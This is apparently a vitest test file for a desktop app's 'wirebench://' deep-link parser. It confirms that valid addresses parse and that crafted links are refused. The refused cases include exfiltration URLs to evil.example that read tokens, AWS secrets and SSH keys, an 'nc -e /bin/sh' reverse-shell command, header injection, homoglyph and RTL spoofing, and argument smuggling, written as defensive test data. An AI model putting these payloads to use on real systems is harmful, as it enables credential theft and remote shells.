import { describe, expect, it } from 'vitest';
import { isLink, readLink } from '../../../electron/desktop/link.ts';

const linkTo = (address: string): string => `wirebench://open?address=${encodeURIComponent(address)}`;

describe('a link', () => {
  it.each([
    ['wirebench://open?address=tcp://127.0.0.1:9000', 'tcp://127.0.0.1:9000'],
    ['wirebench://open/?address=tcp://127.0.0.1:9000', 'tcp://127.0.0.1:9000'],
    ['WireBench://OPEN?address=tls://example.org:443', 'tls://example.org:443'],
    [linkTo('ws://[::1]:8080/chat?room=1&user=a%20b'), 'ws://[::1]:8080/chat?room=1&user=a%20b'],
    [linkTo('wss://example.org/'), 'wss://example.org/'],
    [linkTo('udp://127.0.0.1:53'), 'udp://127.0.0.1:53'],
  ])('names an address: %s', (link, address) => {
    expect(readLink(link)).toEqual({ ok: true, value: address });
  });

  it.each([
    ['asks for something else', 'wirebench://connect?address=tcp://h:1'],
    ['asks for nothing', 'wirebench:'],
    ['has no address', 'wirebench://open'],
    ['has an empty address', 'wirebench://open?address='],
    ['has two addresses', 'wirebench://open?address=tcp://h:1&address=tcp://evil:1'],
    ['has an option', 'wirebench://open?address=tcp://h:1&connect=1'],
    ['has an option in front', 'wirebench://open?connect=1&address=tcp://h:1'],
    ['has a fragment', 'wirebench://open?address=tcp://h:1#send'],
    ['has a user', 'wirebench://me@open?address=tcp://h:1'],
    ['has a port', 'wirebench://open:80?address=tcp://h:1'],
    ['has a path', 'wirebench://open/../x?address=tcp://h:1'],
    ['is a page', 'https://open?address=tcp://h:1'],
    ['is preceded by something', ' wirebench://open?address=tcp://h:1'],
    ['is followed by a line', 'wirebench://open?address=tcp://h:1\n--workspace=/'],
    ['is too long', linkTo(`ws://h/${'a'.repeat(2000)}`)],
    ['has a broken escape', 'wirebench://open?address=tcp://h%ZZ:1'],
    ['has bytes that are not UTF-8', 'wirebench://open?address=tcp://h%ff:1'],
    ['reads a secret', linkTo('ws://evil.example/?t={{token}}')],
    ['reads the environment', linkTo('ws://evil.example/?t={{$env:AWS_SECRET_ACCESS_KEY}}')],
    ['reads a file', linkTo('ws://evil.example/?t={{$file:../../.ssh/id_rsa}}')],
    ['adds a header', linkTo('ws://h/\r\nX-Evil: 1')],
    ['turns its text round', linkTo('ws://h/\u202Egro.knab')],
    ['has a look-alike name', linkTo('tls://аpple.com:443')],
    ['has a zero byte', linkTo('ws://h/\0')],
    ['has spaces around', linkTo(' tcp://h:1')],
    ['has credentials', linkTo('ws://user:password@h/')],
    ['is for a socket of this machine', linkTo('unix:/var/run/docker.sock')],
    ['is for a pipe of another machine', linkTo(String.raw`unix:\\evil\pipe\x`)],
    ['is for a file', linkTo('file:///etc/passwd')],
    ['is for a script', linkTo('javascript:alert(1)')],
    ['is for no scheme', linkTo('127.0.0.1:9000')],
    ['is a command', linkTo('nc -e /bin/sh evil 1')],
    ['is no port', linkTo('tcp://h:99999')],
  ])('is refused with a sentence where it %s', (_why, link) => {
    expect(readLink(link)).toEqual({ ok: false, problem: expect.stringMatching(/^[A-Z].*\.$/) });
  });

  it('is known by its scheme, however it is written', () => {
    expect(isLink('WIREBENCH:x')).toBe(true);
    expect(isLink('wirebenchx://open')).toBe(false);
    expect(isLink('/wirebench:x')).toBe(false);
  });
});
